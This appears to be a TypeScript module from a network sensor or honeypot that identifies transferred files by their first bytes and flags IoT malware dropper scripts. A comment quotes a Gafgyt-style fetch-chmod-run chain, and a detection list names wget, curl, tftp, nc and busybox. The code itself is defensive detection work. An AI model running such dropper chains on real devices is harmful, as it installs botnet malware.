// What a file is, from its first bytes: ELF (class, byte order, machine), shell script, PE, archive.
import type { FileTransferEvent } from '../../events.js';
import { hexOf } from '../bytes.js';

/** The content fields of a FileTransferEvent (the room adds endpoints, protocol, receiver, names). */
export type FileFields = Pick<FileTransferEvent, 'file_type' | 'elf_arch' | 'elf_bits' | 'elf_endian' | 'script_commands' | 'head_hex'>;

export const FILE_LIMITS = { headBytes: 32, scriptBytes: 1024, commands: 16 } as const;

/**
 * ELF e_machine values (System V ABI, "Object Files", ELF Header, e_machine; the current list is the
 * gABI registry at https://www.sco.com/developers/gabi/latest/ch4.eheader.html) -> the names used in
 * FileTransferEvent.elf_arch. Mirai and Gafgyt build for most of these (their bins folders: arm, arm5,
 * arm6, arm7, mips, mpsl, ppc, m68k, sh4, spc, x86, x86_64, arc).
 */
export const ELF_MACHINES: ReadonlyMap<number, string> = new Map([
  [2, 'sparc'], // EM_SPARC
  [3, 'x86'], // EM_386
  [4, 'm68k'], // EM_68K
  [8, 'mips'], // EM_MIPS (both byte orders: elf_endian tells mips from mpsl)
  [18, 'sparc'], // EM_SPARC32PLUS
  [20, 'powerpc'], // EM_PPC
  [21, 'powerpc64'], // EM_PPC64
  [40, 'arm'], // EM_ARM
  [42, 'sh'], // EM_SH (SuperH: sh4 builds)
  [43, 'sparc'], // EM_SPARCV9
  [62, 'x86_64'], // EM_X86_64
  [93, 'arc'], // EM_ARC_COMPACT
  [183, 'aarch64'], // EM_AARCH64
  [195, 'arc'], // EM_ARC_COMPACT2
  [243, 'riscv'], // EM_RISCV
]);

/**
 * Commands of droppers that fetch and start a payload (Mirai's loader echo/wget/tftp stages, Gafgyt's
 * "cd /tmp || cd /var/run; wget http://.../bins.sh; chmod 777 bins.sh; sh bins.sh" chains). Matched as
 * words in command position (line start or after ; | & ( ` $( ), so prose that mentions them does not count.
 */
export const DROPPER_COMMANDS: readonly string[] = ['wget', 'curl', 'tftp', 'ftpget', 'chmod', 'busybox', 'nc', 'cd'];

const EMPTY: string[] = [];

/** Classify the first bytes of a file. Never throws; reads at most FILE_LIMITS.scriptBytes bytes. */
export function classifyFile(b: Uint8Array): FileFields {
  const head_hex = hexOf(b, 0, Math.min(b.length, FILE_LIMITS.headBytes));
  const out: FileFields = { file_type: 'other', elf_arch: null, elf_bits: null, elf_endian: null, script_commands: EMPTY, head_hex };
  if (b.length >= 4 && b[0] === 0x7f && b[1] === 0x45 && b[2] === 0x4c && b[3] === 0x46) {
    // ELF e_ident: EI_CLASS at 4 (1 = 32-bit, 2 = 64-bit), EI_DATA at 5 (1 = little, 2 = big endian);
    // e_machine is the Half at offset 18 in the file's byte order (System V ABI, ELF Header).
    out.file_type = 'elf';
    out.elf_bits = b[4] === 1 ? 32 : b[4] === 2 ? 64 : null;
    out.elf_endian = b[5] === 1 ? 'little' : b[5] === 2 ? 'big' : null;
    if (b.length >= 20 && out.elf_endian !== null) {
      const m = out.elf_endian === 'little' ? b[18] | (b[19] << 8) : (b[18] << 8) | b[19];
      out.elf_arch = ELF_MACHINES.get(m) ?? `unknown-${m}`;
    }
    return out;
  }
  if (b.length >= 2 && b[0] === 0x4d && b[1] === 0x5a) { out.file_type = 'pe'; return out; } // "MZ" DOS header of PE files
  if (isArchive(b)) { out.file_type = 'archive'; return out; }
  const shebang = b.length >= 2 && b[0] === 0x23 && b[1] === 0x21; // "#!"
  if (!shebang && !mostlyText(b)) return out;
  const cmds = dropperCommands(b, Math.min(b.length, FILE_LIMITS.scriptBytes));
  // Without "#!" a text is a script only if its lines chain at least two dropper commands.
  if (shebang || cmds.length >= 2) {
    out.file_type = 'script';
    out.script_commands = cmds;
  }
  return out;
}

/**
 * Whether classifyFile can name these bytes at all: a known magic, "#!", or mostly text. A cheap look
 * for callers that report only named files (the raw TCP room), so binary flows skip the hex and scans.
 */
export function mayBeFile(b: Uint8Array): boolean {
  if (b.length < 2) return false;
  const c = b[0];
  if (c === 0x7f || c === 0x4d || c === 0x1f || c === 0x50 || c === 0xfd || c === 0x42 || c === 0x23) return true;
  return mostlyText(b);
}

/** gzip (RFC 1952 2.3.1: 1f 8b, CM 8), zip local header "PK\3\4", xz (FD "7zXZ" 00), bzip2 "BZh1".."BZh9". */
function isArchive(b: Uint8Array): boolean {
  if (b.length >= 3 && b[0] === 0x1f && b[1] === 0x8b && b[2] === 0x08) return true;
  if (b.length >= 4 && b[0] === 0x50 && b[1] === 0x4b && b[2] === 0x03 && b[3] === 0x04) return true;
  if (b.length >= 6 && b[0] === 0xfd && b[1] === 0x37 && b[2] === 0x7a && b[3] === 0x58 && b[4] === 0x5a && b[5] === 0x00) return true;
  return b.length >= 4 && b[0] === 0x42 && b[1] === 0x5a && b[2] === 0x68 && b[3] >= 0x31 && b[3] <= 0x39;
}

/** At least 90% of the first 256 bytes printable ASCII, TAB, CR or LF. */
export function mostlyText(b: Uint8Array): boolean {
  const n = Math.min(b.length, 256);
  if (n === 0) return false;
  let bad = 0;
  const allowed = Math.floor(n / 10);
  for (let i = 0; i < n; i++) {
    const c = b[i];
    if ((c < 0x20 && c !== 0x09 && c !== 0x0a && c !== 0x0d) || c >= 0x7f) {
      if (++bad > allowed) return false;
    }
  }
  return true;
}

function isWordByte(c: number): boolean {
  return (c >= 0x61 && c <= 0x7a) || (c >= 0x41 && c <= 0x5a) || (c >= 0x30 && c <= 0x39) || c === 0x5f || c === 0x2d || c === 0x2e || c === 0x2f;
}

/** Dropper commands in command position in b[0, end), each once, in order of first appearance. */
export function dropperCommands(b: Uint8Array, end: number): string[] {
  const found: string[] = [];
  let i = 0;
  while (i < end && found.length < FILE_LIMITS.commands) {
    // Skip separators and blanks up to the next command word.
    const c = b[i];
    if (c === 0x0a || c === 0x0d || c === 0x3b || c === 0x7c || c === 0x26 || c === 0x28 || c === 0x60 || c === 0x20 || c === 0x09 || c === 0x24) { i++; continue; }
    // A word in command position: read it (a path prefix like /bin/busybox counts as busybox).
    let j = i;
    while (j < end && isWordByte(b[j])) j++;
    if (j > i) {
      let s = i;
      for (let k = i; k < j; k++) if (b[k] === 0x2f) s = k + 1;
      // Only words as long as a command name are turned into strings (the longest is "busybox").
      const word = j - s < 2 || j - s > 7 ? '' : String.fromCharCode.apply(null, b.subarray(s, j) as unknown as number[]);
      if (DROPPER_COMMANDS.includes(word) && !found.includes(word) && (word !== 'cd' || cdToWritable(b, j, end))) found.push(word);
    }
    // The rest of this command up to the next separator is arguments.
    let k = j > i ? j : i + 1;
    while (k < end && b[k] !== 0x0a && b[k] !== 0x3b && b[k] !== 0x7c && b[k] !== 0x26 && b[k] !== 0x60 && !(b[k] === 0x24 && b[k + 1] === 0x28)) k++;
    i = k;
  }
  return found;
}

/** "cd /tmp", "cd /var...", "cd /dev/shm", "cd /mnt": the writable places droppers move to. */
function cdToWritable(b: Uint8Array, at: number, end: number): boolean {
  let i = at;
  while (i < end && b[i] === 0x20) i++;
  const rest = String.fromCharCode.apply(null, b.subarray(i, Math.min(end, i + 8)) as unknown as number[]);
  return /^\/(tmp|var|dev|mnt|data)\b/.test(rest);
}
